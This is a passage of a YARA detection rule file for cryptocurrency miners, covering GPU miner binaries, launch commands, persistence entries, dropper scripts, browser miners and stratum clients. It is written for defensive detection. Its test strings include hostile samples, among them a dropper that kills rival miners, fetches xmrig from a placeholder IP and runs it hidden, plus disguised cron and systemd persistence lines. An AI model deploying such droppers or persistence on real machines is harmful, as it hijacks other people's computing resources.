    id = "miner/nbminer"
    family = "nbminer"
    severity = "critical"
    description = "The NBMiner GPU miner: its name with GPU mining algorithms and stratum URLs."
    references = "https://github.com/NebuTech/NBMiner"
    positive = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00NBMiner\x00ethash\x00kawpow\x00octopus\x00stratum+tcp://\x00"
    negative = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00nbminer\x00"
  strings:
    $n = "nbminer" ascii wide nocase
    $t1 = "ethash" ascii wide
    $t2 = "kawpow" ascii wide
    $t3 = "octopus" ascii wide
    $t4 = "autolykos" ascii wide nocase
    $t5 = "beamv3" ascii wide nocase
    $t6 = "cuckatoo" ascii wide nocase
    $t7 = "stratum+tcp" ascii wide
    $t8 = "stratum+ssl" ascii wide
    $t9 = "mining.subscribe" ascii wide
  condition:
    (uint32(0) == 0x464c457f or uint16(0) == 0x5a4d or uint32(0) == 0xfeedfacf)
    and $n and 3 of ($t*)
}

rule miner_lolminer_binary
{
  meta:
    id = "miner/lolminer"
    family = "lolminer"
    severity = "critical"
    description = "The lolMiner GPU miner: its name with its algorithm names and pool options."
    references = "https://github.com/Lolliedieb/lolMiner-releases https://lolminer.site/documentation/arguments/"
    positive = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00lolMiner 1.88\x00--pool\x00--user\x00--apiport\x00ETHASH\x00BEAM-III\x00KASPA\x00"
    negative = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00lolminer\x00--user\x00"
  strings:
    $n = "lolMiner" ascii wide nocase
    $t1 = "--pool" ascii wide
    $t2 = "--user" ascii wide
    $t3 = "--apiport" ascii wide
    $t4 = "ETHASH" ascii wide
    $t5 = "BEAM-III" ascii wide
    $t6 = "AUTOLYKOS2" ascii wide
    $t7 = "EQUI144_5" ascii wide
    $t8 = "KASPA" ascii wide
    $t9 = "stratum+tcp" ascii wide
  condition:
    (uint32(0) == 0x464c457f or uint16(0) == 0x5a4d or uint32(0) == 0xfeedfacf)
    and $n and 3 of ($t*)
}

rule miner_gminer_binary
{
  meta:
    id = "miner/gminer"
    family = "gminer"
    severity = "critical"
    description = "The GMiner GPU miner (shipped as a binary named miner): its name with its own options and Equihash / Cuckoo algorithm names."
    references = "https://github.com/develsoftware/GMinerRelease"
    positive = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00GMiner v3.44\x00--server\x00--ssl_verification\x00--cuda_devices\x00equihash144_5\x00cuckatoo31\x00"
    negative = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00GMiner\x00--server\x00"
  strings:
    $n = "GMiner" ascii wide
    $t1 = "--server" ascii wide
    $t2 = "--ssl_verification" ascii wide
    $t3 = "--cuda_devices" ascii wide
    $t4 = "--templimit" ascii wide
    $t5 = "equihash144_5" ascii wide
    $t6 = "equihash192_7" ascii wide
    $t7 = "cuckatoo31" ascii wide
    $t8 = "cuckaroo29" ascii wide
    $t9 = "kawpow" ascii wide
    $t10 = "stratum+tcp" ascii wide
  condition:
    (uint32(0) == 0x464c457f or uint16(0) == 0x5a4d or uint32(0) == 0xfeedfacf)
    and $n and 3 of ($t*)
}

rule miner_phoenixminer_binary
{
  meta:
    id = "miner/phoenixminer"
    family = "phoenixminer"
    severity = "critical"
    description = "The PhoenixMiner Ethash GPU miner: its name with its Claymore-style pool options (-epool, -ewal) or Ethash algorithm names."
    references = "https://phoenixminer.info"
    positive = "MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00PhoenixMiner\x00-epool\x00-ewal\x00-epsw\x00ethash\x00etchash\x00"
    negative = "MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00PhoenixMiner\x00"
  strings:
    $n = "PhoenixMiner" ascii wide
    $t1 = "-epool" ascii wide
    $t2 = "-ewal" ascii wide
    $t3 = "-epsw" ascii wide
    $t4 = "-cdmport" ascii wide
    $t5 = "EthDcrMiner64" ascii wide
    $t6 = "ethash" ascii wide nocase
    $t7 = "etchash" ascii wide nocase
    $t8 = "ubqhash" ascii wide nocase
    $t9 = "stratum+tcp" ascii wide
  condition:
    (uint32(0) == 0x464c457f or uint16(0) == 0x5a4d or uint32(0) == 0xfeedfacf)
    and $n and 2 of ($t*)
}

rule miner_teamredminer_binary
{
  meta:
    id = "miner/teamredminer"
    family = "teamredminer"
    severity = "critical"
    description = "The TeamRedMiner AMD GPU miner: its name with its own options and GPU mining algorithms."
    references = "https://github.com/todxx/teamredminer"
    positive = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00teamredminer\x00--eth_config\x00--api_listen\x00ethash\x00kawpow\x00stratum+tcp://\x00"
    negative = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00TeamRedMiner\x00"
  strings:
    $n = "teamredminer" ascii wide nocase
    $t1 = "--eth_config" ascii wide
    $t2 = "--api_listen" ascii wide
    $t3 = "--bus_reorder" ascii wide
    $t4 = "ethash" ascii wide
    $t5 = "kawpow" ascii wide
    $t6 = "autolykos2" ascii wide
    $t7 = "cryptonight" ascii wide nocase
    $t8 = "stratum+tcp" ascii wide
    $t9 = "stratum+ssl" ascii wide
  condition:
    (uint32(0) == 0x464c457f or uint16(0) == 0x5a4d or uint32(0) == 0xfeedfacf)
    and $n and 2 of ($t*)
}

rule miner_srbminer_binary
{
  meta:
    id = "miner/srbminer"
    family = "srbminer"
    severity = "critical"
    description = "SRBMiner-MULTI (or the older SRBMiner-CN) CPU/GPU miner: its name with its own options."
    references = "https://github.com/doktor83/SRBMiner-Multi"
    positive = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00SRBMiner-MULTI\x00--algorithm\x00--pool\x00--wallet\x00--disable-gpu\x00randomx\x00"
    negative = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00srbminer\x00--wallet\x00"
  strings:
    $n = "srbminer" ascii wide nocase
    $t1 = "--algorithm" ascii wide
    $t2 = "--pool" ascii wide
    $t3 = "--wallet" ascii wide
    $t4 = "--disable-gpu" ascii wide
    $t5 = "--disable-cpu" ascii wide
    $t6 = "--cpu-threads" ascii wide
    $t7 = "randomx" ascii wide nocase
    $t8 = "ghostrider" ascii wide nocase
    $t9 = "stratum+tcp" ascii wide
  condition:
    (uint32(0) == 0x464c457f or uint16(0) == 0x5a4d or uint32(0) == 0xfeedfacf)
    and $n and 3 of ($t*)
}

rule miner_nanominer_binary
{
  meta:
    id = "miner/nanominer"
    family = "nanominer"
    severity = "critical"
    description = "Nanopool's nanominer: its name with the keys of its config.ini and mining algorithm names."
    references = "https://github.com/nanopool/nanominer"
    positive = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00nanominer\x00rigName\x00rigPassword\x00sortPools\x00RandomX\x00Ethash\x00"
    negative = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00nanominer\x00rigName\x00"
  strings:
    $n = "nanominer" ascii wide nocase
    $t1 = "rigName" ascii wide
    $t2 = "rigPassword" ascii wide
    $t3 = "sortPools" ascii wide
    $t4 = "minRigSpeed" ascii wide
    $t5 = "randomx" ascii wide nocase
    $t6 = "ethash" ascii wide nocase
    $t7 = "kawpow" ascii wide nocase
    $t8 = "stratum+tcp" ascii wide
    $t9 = "nanopool.org" ascii wide
  condition:
    (uint32(0) == 0x464c457f or uint16(0) == 0x5a4d or uint32(0) == 0xfeedfacf)
    and $n and 3 of ($t*)
}

rule miner_nanominer_config
{
  meta:
    id = "miner/nanominer-config"
    family = "nanominer"
    severity = "critical"
    description = "A nanominer config.ini: a wallet and rigName with an algorithm section such as [RandomX] or [Ethash]."
    references = "https://github.com/nanopool/nanominer/blob/master/README.md"
    positive = "[RandomX]\nwallet = 0x0000000000000000000000000000000000000000\ncoin = XMR\nrigName = rig01\npool1 = xmr-eu1.nanopool.org:14444\n"
    negative = "[general]\nrigName = lab-desktop\nowner = ops\n"
  strings:
    $rig = /rigName\s*=/
    $wallet = /wallet\s*=\s*[0-9A-Za-z:]{20,120}/
    $s1 = "[ethash]" nocase
    $s2 = "[etchash]" nocase
    $s3 = "[randomx]" nocase
    $s4 = "[kawpow]" nocase
    $s5 = "[autolykos]" nocase
    $s6 = "[verushash]" nocase
    $s7 = "[kaspa]" nocase
    $s8 = "[ubqhash]" nocase
    $s9 = /pool[0-9]\s*=\s*[a-z0-9.-]{4,100}:[0-9]{2,5}/
  condition:
    not (uint32(0) == 0x464c457f or uint16(0) == 0x5a4d or uint32(0) == 0xfeedfacf)
    and filesize < 256KB and $rig and $wallet and 1 of ($s*)
}

rule miner_bzminer_binary
{
  meta:
    id = "miner/bzminer"
    family = "bzminer"
    severity = "critical"
    description = "The BzMiner GPU miner: its name with GPU mining algorithm names and stratum URLs."
    references = "https://github.com/bzminer/bzminer https://www.bzminer.com"
    positive = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00bzminer\x00kaspa\x00kawpow\x00etchash\x00stratum+tcp://\x00"
    negative = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00bzminer\x00"
  strings:
    $n = "bzminer" ascii wide nocase
    $t1 = "kaspa" ascii wide
    $t2 = "kawpow" ascii wide
    $t3 = "etchash" ascii wide
    $t4 = "ironfish" ascii wide
    $t5 = "karlsen" ascii wide
    $t6 = "rethereum" ascii wide
    $t7 = "stratum+tcp" ascii wide
    $t8 = "stratum+ssl" ascii wide
  condition:
    (uint32(0) == 0x464c457f or uint16(0) == 0x5a4d or uint32(0) == 0xfeedfacf)
    and $n and 3 of ($t*)
}

// ---------------------------------------------------------------------------------------
// Launchers: scripts, units, cron entries, droppers
// ---------------------------------------------------------------------------------------

rule miner_named_miner_launch
{
  meta:
    id = "miner/named-miner-launch"
    family = "generic"
    severity = "critical"
    description = "A command line that runs a known miner binary (T-Rex, NBMiner, lolMiner, GMiner, PhoenixMiner, TeamRedMiner, SRBMiner, nanominer, BzMiner, ethminer, ccminer, cpuminer, minerd, xmr-stak) with a pool argument."
    references = "https://github.com/trexminer/T-Rex https://lolminer.site/documentation/arguments/ https://github.com/doktor83/SRBMiner-Multi https://github.com/NebuTech/NBMiner"
    positive = "#!/bin/bash\n./lolMiner --algo KASPA --pool stratum+tcp://kas.example-pool.org:13136 --user \"$WALLET.$WORKER\" --watchdog exit\n"
    negative = "# Supported miners: lolMiner, T-Rex, NBMiner. Configure the pool in the web UI.\n"
    negative2 = "The lolMiner wrapper accepts --pool and --user; see the wiki.\n"
    positive4 = "CMD [\"./t-rex\", \"-a\", \"kawpow\", \"-o\", \"stratum+tcp://rvn.example-pool.com:9999\", \"-u\", \"YOUR_WALLET\"]\n"
    positive2 = "./SRBMiner-MULTI --disable-gpu --algorithm randomx --pool rx.example-pool.com:3333 --wallet YOUR_WALLET_ADDRESS\n"
    positive3 = "PhoenixMiner.exe -pool eu1.example-pool.org:4444 -wal 0x0000000000000000000000000000000000000000.rig1 -pass x\n"
  strings:
    $a = /(t-rex|nbminer|teamredminer|bzminer|gminer|lolminer|phoenixminer|srbminer-multi|srbminer-cn|nanominer|ethminer|ccminer|cpuminer|minerd|xmr-stak-rx|xmr-stak)(\.exe)?['"]?,?\s[^\n]{0,300}(stratum[0-9]?\+(tcp|ssl|tls):\/\/[a-zA-Z0-9.-]{2,}|(--pool|-pool|-epool|--url|-o|-P)['"]?,?[= ]+['"]?[a-zA-Z0-9.-]{2,}\.[a-zA-Z]{2,}[a-zA-Z0-9.-]*:[0-9]{2,5}|--server[= ]+[a-zA-Z0-9.-]+\.[a-zA-Z]{2,}[^\n]{0,100}--port)/ nocase
  condition:
    not (uint32(0) == 0x464c457f or uint16(0) == 0x5a4d or uint32(0) == 0xfeedfacf)
    and filesize < 5MB and $a
}

rule miner_stratum_launch
{
  meta:
    id = "miner/stratum-launch"
    family = "generic"
    severity = "critical"
    description = "A command line of any (possibly renamed) miner: a stratum+tcp/ssl pool URL next to a user or wallet option, or -o host:port followed by -u and a wallet-length user name."
    references = "https://en.bitcoin.it/wiki/Stratum_mining_protocol https://xmrig.com/docs/miner/command-line-options"
    positive = "*/10 * * * * /var/tmp/.sys/kworker -o stratum+tcp://203.0.113.7:3333 -u YOUR_WALLET_ADDRESS -p x -t 4 >/dev/null 2>&1\n"
    negative = "# block outbound stratum+tcp:// and stratum+ssl:// connections at the egress proxy\n"
    positive2 = "/dev/shm/.k/systemd-journal -o xmr.example-pool.net:4444 -u 4AbCdEfGhJkLmNoPqRsTuVwXyZ123456789 -p x -k\n"
    negative2 = "curl -o out.tar.gz -u admin https://example.com/file\nssh -o StrictHostKeyChecking=no host\n"
  strings:
    $a = /stratum[0-9]?\+(tcp|ssl|tls):\/\/[^ \t\r\n'"]{4,200}['"]?,?\s+['"]?(-u|--user|-w|--wallet|-wal|-O|--userpass|--login)['"]?[= ,]/
    $b = /\s(-u|--user|--wallet|-wal)[= ]+['"]?[0-9A-Za-z._:-]{20,120}['"]?\s+[^\n]{0,100}stratum[0-9]?\+(tcp|ssl|tls):\/\//
    $c = /\s(-o|--url)[= ]+['"]?[a-z0-9.-]{2,100}\.[a-z]{2,20}:[0-9]{2,5}['"]?\s+(-u|--user)[= ]+['"]?[0-9A-Za-z._:+-]{20,120}/
  condition:
    not (uint32(0) == 0x464c457f or uint16(0) == 0x5a4d or uint32(0) == 0xfeedfacf)
    and filesize < 5MB and any of them
}

rule miner_persistence_entry
{
  meta:
    id = "miner/persistence-entry"
    family = "generic"
    severity = "critical"
    description = "A systemd unit, supervisord program, cron entry or container spec (Kubernetes/Compose image or command, Dockerfile CMD/ENTRYPOINT) that starts a known miner binary (xmrig, xmr-stak, cpuminer, kdevtmpfsi and others)."
    references = "https://www.freedesktop.org/software/systemd/man/systemd.service.html http://supervisord.org/configuration.html"
    positive = "[Unit]\nDescription=System update service\n[Service]\nExecStart=/usr/local/bin/xmrig --config=/etc/xmrig/config.json\nRestart=always\n"
    negative = "[Service]\nExecStart=/usr/bin/node-exporter --collector.processes\nRestart=always\n"
    positive2 = "[program:sysworker]\ncommand=/opt/.x/xmrig -c /opt/.x/c.json\nautorestart=true\n"
    positive3 = "@reboot /tmp/kdevtmpfsi >/dev/null 2>&1\n"
    positive4 = "spec:\n  containers:\n  - name: worker\n    image: docker.io/example/xmrig:6.21.0\n    args: [\"-o\", \"pool.example.net:443\"]\n"
    positive5 = "FROM alpine:3.19\nCOPY xmrig /usr/local/bin/\nENTRYPOINT [\"/usr/local/bin/xmrig\", \"--config=/etc/c.json\"]\n"
    negative3 = "services:\n  exporter:\n    image: example/xmrig-exporter:1.2\n    command: [\"/bin/xmrig-exporter\", \"--port\", \"9189\"]\n"
    negative2 = "*/30 * * * * /opt/security/kill-xmrig.sh --report\nExecStart=/usr/bin/xmrig-exporter --listen :9189\n"
  strings:
    $e1 = /ExecStart(Pre)?=([^\n]{0,200}[\/\s'"=])?(xmrig|xmrig-notls|xmr-stak|xmr-stak-rx|minerd|cpuminer|cpuminer-opt|cpuminer-multi|ccminer|nbminer|t-rex|lolminer|teamredminer|srbminer-multi|nanominer|bzminer|phoenixminer|kdevtmpfsi|kinsing)(\.exe)?[\s'";&|>]/ nocase
    $e2 = /\[program:[^\]\n]{0,80}\][^\[]{0,500}command\s*=([^\n]{0,200}[\/\s'"=])?(xmrig|xmrig-notls|xmr-stak|xmr-stak-rx|minerd|cpuminer|cpuminer-opt|cpuminer-multi|ccminer|nbminer|t-rex|lolminer|teamredminer|srbminer-multi|nanominer|bzminer|phoenixminer|kdevtmpfsi|kinsing)(\.exe)?[\s'";&|>]/ nocase
    $e3 = /@reboot\s([^\n]{0,200}[\/\s'"=])?(xmrig|xmrig-notls|xmr-stak|xmr-stak-rx|minerd|cpuminer|cpuminer-opt|cpuminer-multi|ccminer|nbminer|t-rex|lolminer|teamredminer|srbminer-multi|nanominer|bzminer|phoenixminer|kdevtmpfsi|kinsing)(\.exe)?[\s'";&|>]/ nocase
    $e4 = / \* \* \* \*\s([^\n]{0,200}[\/\s'"=])?(xmrig|xmrig-notls|xmr-stak|xmr-stak-rx|minerd|cpuminer|cpuminer-opt|cpuminer-multi|ccminer|nbminer|t-rex|lolminer|teamredminer|srbminer-multi|nanominer|bzminer|phoenixminer|kdevtmpfsi|kinsing)(\.exe)?[\s'";&|>]/ nocase
    $e5 = /image:\s*['"]?([a-z0-9.\/:_-]{0,120}\/)?(xmrig|xmrig-notls|xmr-stak|xmr-stak-rx|minerd|cpuminer|cpuminer-opt|cpuminer-multi|ccminer|nbminer|t-rex|lolminer|teamredminer|srbminer-multi|nanominer|bzminer|phoenixminer|kdevtmpfsi|kinsing)(:[a-zA-Z0-9._-]{1,128})?['"]?\s/ nocase
    $e6 = /command:\s*\[?\s*['"]?([^\n'"]{0,120}\/)?(xmrig|xmrig-notls|xmr-stak|xmr-stak-rx|minerd|cpuminer|cpuminer-opt|cpuminer-multi|ccminer|nbminer|t-rex|lolminer|teamredminer|srbminer-multi|nanominer|bzminer|phoenixminer|kdevtmpfsi|kinsing)(\.exe)?['"\s,\]]/ nocase
    $e7 = /(CMD|ENTRYPOINT)\s+\[?\s*['"]?([^\n'"]{0,120}\/)?(xmrig|xmrig-notls|xmr-stak|xmr-stak-rx|minerd|cpuminer|cpuminer-opt|cpuminer-multi|ccminer|nbminer|t-rex|lolminer|teamredminer|srbminer-multi|nanominer|bzminer|phoenixminer|kdevtmpfsi|kinsing)(\.exe)?['"\s,\]]/
  condition:
    not (uint32(0) == 0x464c457f or uint16(0) == 0x5a4d or uint32(0) == 0xfeedfacf)
    and filesize < 2MB and any of them
}

rule miner_dropper_script
{
  meta:
    id = "miner/dropper-script"
    family = "generic"
    severity = "critical"
    description = "A miner dropper script: downloads or starts a miner and also kills competing miners (xmrig, kinsing, kdevtmpfsi) or tunes the host for hashrate (nmi_watchdog off, hugepages, MSR writes)."
    references = "https://www.trendmicro.com/en_us/research/20/i/war-of-linux-cryptocurrency-miners-a-battle-for-resources.html https://xmrig.com/docs/miner/hugepages"
    positive = "#!/bin/sh\npkill -f kdevtmpfsi\nps aux | grep -v grep | grep 'xmrig' | awk '{print $2}' | xargs -I % kill -9 %\necho 0 > /proc/sys/kernel/nmi_watchdog\nsysctl -w vm.nr_hugepages=128\ncurl -fsSL http://203.0.113.9/xmrig -o /tmp/.x/xmrig\nchmod +x /tmp/.x/xmrig\nnohup /tmp/.x/xmrig -c /tmp/.x/config.json &\n"
    negative = "#!/bin/sh\n# incident clean-up\npkill -f xmrig\nrm -f /tmp/.x/xmrig\necho cleaned\n"
  strings:
    $dl1 = /(curl|wget)\s[^\n]{0,300}(xmrig|xmr-stak|kdevtmpfsi|kinsing|minerd|cpuminer)/ nocase
    $dl2 = /(xmrig|xmr-stak|cpuminer)[a-z0-9._-]{0,40}\.(tar\.gz|tgz|zip)/ nocase
    $run1 = /chmod\s+(\+x|[0-7]{3,4}|[augo]+\+x)\s[^\n]{0,200}(xmrig|xmr-stak|kdevtmpfsi|kinsing|minerd|cpuminer)/ nocase
    $run2 = /nohup\s[^\n]{0,200}(xmrig|xmr-stak|kdevtmpfsi|kinsing|minerd|cpuminer)/ nocase
    $kill1 = /(pkill|killall)\s+(-9\s+|-f\s+|-KILL\s+|-SIGKILL\s+)*['"]?[a-z\/._-]{0,40}(xmrig|xmr-stak|kdevtmpfsi|kinsing|minerd|cpuminer|kthreaddi|dbused|sysupdate|networkservice)/ nocase
    $kill2 = /grep[^\n]{0,60}(xmrig|kdevtmpfsi|kinsing|minerd|cryptonight|stratum|minexmr|supportxmr|xmr-stak)[^\n]{0,200}kill/ nocase
    $tune1 = "nmi_watchdog"
    $tune2 = "vm.nr_hugepages"
    $tune3 = /wrmsr\s+-a\s+0x/
    $tune4 = /modprobe\s+msr/
  condition:
    not (uint32(0) == 0x464c457f or uint16(0) == 0x5a4d or uint32(0) == 0xfeedfacf)
    and filesize < 5MB
    and (
      (1 of ($dl*, $run*) and 1 of ($kill*, $tune*))
      or (1 of ($kill*) and 2 of ($tune*))
    )
}

rule miner_release_download
{
  meta:
    id = "miner/release-download"
    family = "generic"
    severity = "high"
    description = "A script, Dockerfile or manifest that downloads a miner release archive from its official release page (XMRig, xmr-stak, cpuminer, T-Rex, lolMiner, NBMiner, GMiner, TeamRedMiner, SRBMiner, nanominer, ethminer)."
    references = "https://github.com/xmrig/xmrig/releases https://github.com/doktor83/SRBMiner-Multi/releases"
    positive = "RUN wget -q https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz && tar xf xmrig-6.21.0-linux-static-x64.tar.gz\n"
    negative = "Homepage: https://github.com/xmrig/xmrig\n"
  strings:
    $u1 = "xmrig/xmrig/releases/download" nocase
    $u2 = "xmrig/xmrig-proxy/releases/download" nocase
    $u3 = "fireice-uk/xmr-stak/releases/download" nocase
    $u4 = "pooler/cpuminer/releases/download" nocase
    $u5 = "tpruvot/cpuminer-multi/releases/download" nocase
    $u6 = "JayDDee/cpuminer-opt/releases/download" nocase
    $u7 = "trexminer/T-Rex/releases/download" nocase
    $u8 = "Lolliedieb/lolMiner-releases/releases/download" nocase
    $u9 = "NebuTech/NBMiner/releases/download" nocase
    $u10 = "develsoftware/GMinerRelease/releases/download" nocase
    $u11 = "todxx/teamredminer/releases/download" nocase
    $u12 = "doktor83/SRBMiner-Multi/releases/download" nocase
    $u13 = "nanopool/nanominer/releases/download" nocase
    $u14 = "ethereum-mining/ethminer/releases/download" nocase
    $u15 = "MoneroOcean/xmrig/releases/download" nocase
  condition:
    not (uint32(0) == 0x464c457f or uint16(0) == 0x5a4d or uint32(0) == 0xfeedfacf)
    and filesize < 5MB and any of them
}

// ---------------------------------------------------------------------------------------
// Browser miners (JavaScript / WebAssembly)
// ---------------------------------------------------------------------------------------

rule miner_browser_js
{
  meta:
    id = "miner/browser-js"
    family = "browser-miner"
    severity = "high"
    description = "A JavaScript browser miner (CoinHive, CryptoLoot, CoinImp, deepMiner and clones): the miner object's constructor together with its library, throttle or start call."
    references = "https://en.wikipedia.org/wiki/Coinhive https://github.com/deepwn/deepMiner"
    positive = "<script src=\"https://coinhive.com/lib/coinhive.min.js\"></script>\n<script>\n  var miner = new CoinHive.Anonymous('SITE_KEY', {throttle: 0.3});\n  miner.start();\n</script>\n"
    negative = "||coinhive.com^$third-party\n||authedmine.com^\n/coinhive.min.js\n/cryptonight.wasm\n"
    positive2 = "var miner=new CRLT.Anonymous('SITE_KEY',{threads:4,throttle:0.2});miner.start();"
  strings:
    $api1 = /new\s+CoinHive\.(Anonymous|User|Token)\s*\(/
    $api2 = /new\s+(CRLT|CryptoLoot)\.Anonymous\s*\(/
    $api3 = /new\s+Client\.(Anonymous|User)\s*\(\s*['"][0-9a-f]{32,80}['"]/
    $api4 = /new\s+deepMiner\.(Anonymous|Init)\s*\(/
    $api5 = "CoinHive.CONFIG"
    $api6 = /CoinHive\.(Anonymous|User|Token)\s*=\s*function/
    $lib1 = "coinhive.min.js"
    $lib2 = "authedmine.min.js"
    $lib3 = "cryptonight.wasm"
    $lib4 = "cryptonight.asm.js"
    $lib5 = "WEBSOCKET_SHARDS"
    $lib6 = /\.setThrottle\s*\(/
    $lib7 = /miner\.start\s*\(/
    $lib8 = "FORCE_EXCLUSIVE_TAB"
    $lib9 = "_cryptonight_hash"
    $lib10 = "hostingcloud.racing"
    $lib11 = "crypto-loot.com"
    $lib12 = "coinimp.com"
  condition:
    not (uint32(0) == 0x464c457f or uint16(0) == 0x5a4d or uint32(0) == 0xfeedfacf)
    and filesize < 10MB and 1 of ($api*) and 1 of ($lib*)
}

rule miner_browser_wasm
{
  meta:
    id = "miner/browser-wasm"
    family = "browser-miner"
    severity = "high"
    description = "A WebAssembly module of a browser miner: exports of a CryptoNight hashing core (cryptonight_hash with create/destroy), as in CoinHive-style cryptonight.wasm."
    references = "https://en.wikipedia.org/wiki/Coinhive https://webassembly.github.io/spec/core/binary/modules.html"
    positive = "\x00asm\x01\x00\x00\x00\x07\x30\x03\x11_cryptonight_hash\x00\x01\x13_cryptonight_create\x00\x02\x14_cryptonight_destroy\x00\x03"
    negative = "\x00asm\x01\x00\x00\x00\x07\x10\x01\x0c_cn_slow_hash\x00\x01"
    positive2 = "// asm.js fallback\nvar _cryptonight_hash = Module[\"_cryptonight_hash\"] = function() { return Module[\"asm\"][\"_cryptonight_hash\"].apply(null, arguments) };\nvar _cryptonight_create = Module[\"_cryptonight_create\"];\n"
  strings:
    $e1 = "cryptonight_hash"
    $e2 = "cryptonight_create"
    $e3 = "cryptonight_destroy"
    $e4 = "cn_hash"
    $e5 = "hash_cn"
  condition:
    filesize < 20MB
    and (
      (uint32(0) == 0x6d736100 and 2 of them)
      or (not (uint32(0) == 0x464c457f or uint16(0) == 0x5a4d or uint32(0) == 0xfeedfacf) and $e1 and $e2)
    )
}

// ---------------------------------------------------------------------------------------
// Stratum clients, Go miners, RandomX
// ---------------------------------------------------------------------------------------

rule miner_go_stratum_binary
{
  meta:
    id = "miner/go-stratum-miner"
    family = "go-miner"
    severity = "high"
    description = "A Go-built executable that carries stratum mining client methods (mining.subscribe / submit / authorize) or the Monero stratum login fields as Go struct tags."
    references = "https://en.bitcoin.it/wiki/Stratum_mining_protocol https://go.dev/doc/go1.18#debug_buildinfo"
    positive = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00Go build ID: \"abc/def\"\x00runtime.main\x00mining.subscribe\x00mining.authorize\x00mining.submit\x00"
    negative = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00Go build ID: \"abc/def\"\x00runtime.main\x00json:\"login\"\x00json:\"pass\"\x00"
    positive2 = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00\xff Go buildinf:\x00json:\"login\"\x00json:\"pass\"\x00json:\"agent\"\x00json:\"job_id\"\x00"
  strings:
    $go1 = "Go build ID: \""
    $go2 = "runtime.main"
    $go3 = "go.buildid"
    $go4 = { FF 20 47 6F 20 62 75 69 6C 64 69 6E 66 3A }
    $st1 = "mining.subscribe"
    $st2 = "mining.submit"
    $st3 = "mining.authorize"
    $st4 = "mining.notify"
    $st5 = "mining.set_difficulty"
    $st6 = "stratum+tcp"
    $mj1 = "json:\"login\""
    $mj2 = "json:\"pass\""
    $mj3 = "json:\"agent\""
    $mj4 = "json:\"job_id\""
    $ml = /"method"\s?:\s?"login"/
  condition:
    uint32(0) == 0x464c457f
    and 1 of ($go*)
    and (2 of ($st*) or 3 of ($mj*) or ($ml and 1 of ($mj*, $st*)))
}

rule miner_stratum_client_binary
{
  meta:
    id = "miner/stratum-client-binary"
    family = "stratum"
    severity = "high"
    description = "An executable that implements a stratum mining client: several stratum method names, or the Monero-style stratum login request with pass and agent fields."
    references = "https://en.bitcoin.it/wiki/Stratum_mining_protocol https://github.com/xmrig/xmrig-proxy/blob/master/doc/STRATUM.md"
    positive = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00mining.subscribe\x00mining.authorize\x00mining.notify\x00mining.set_difficulty\x00"
    negative = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00mining.subscribe\x00\"method\"\x00"
    positive2 = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"%s\",\"pass\":\"%s\",\"agent\":\"%s\"}}\x00\"job_id\"\x00"
  strings:
    $st1 = "mining.subscribe"
    $st2 = "mining.authorize"
    $st3 = "mining.submit"
    $st4 = "mining.notify"
    $st5 = "mining.set_difficulty"
    $st6 = "mining.extranonce.subscribe"
    $st7 = "stratum+tcp://"
    $st8 = "stratum+ssl://"
    $ml = /"method"\s?:\s?"(login|submit|keepalived)"/
    $mx1 = "\"agent\""
    $mx2 = "\"pass\""
    $mx3 = "\"job_id\""
  condition:
    (uint32(0) == 0x464c457f or uint16(0) == 0x5a4d or uint32(0) == 0xfeedfacf)
    and (3 of ($st*) or ($ml and 2 of ($mx*)))
}

rule miner_stratum_client_script
{
  meta:
    id = "miner/stratum-client-script"
    family = "stratum"
    severity = "high"
    description = "Script source (Python, JavaScript, shell) that speaks the stratum mining protocol: JSON-RPC requests for mining.subscribe / authorize / submit, or a Monero stratum login with pass and agent."
    references = "https://en.bitcoin.it/wiki/Stratum_mining_protocol https://github.com/xmrig/xmrig-proxy/blob/master/doc/STRATUM.md"
    positive = "import json, socket\ns = socket.create_connection((host, port))\ns.sendall((json.dumps({\"id\": 1, \"method\": \"mining.subscribe\", \"params\": []}) + \"\\n\").encode())\ns.sendall((json.dumps({\"id\": 2, \"method\": \"mining.authorize\", \"params\": [user, password]}) + \"\\n\").encode())\n"
    negative = "STRATUM_METHODS = ['mining.subscribe', 'mining.authorize']  # names used by the IDS parser\n"
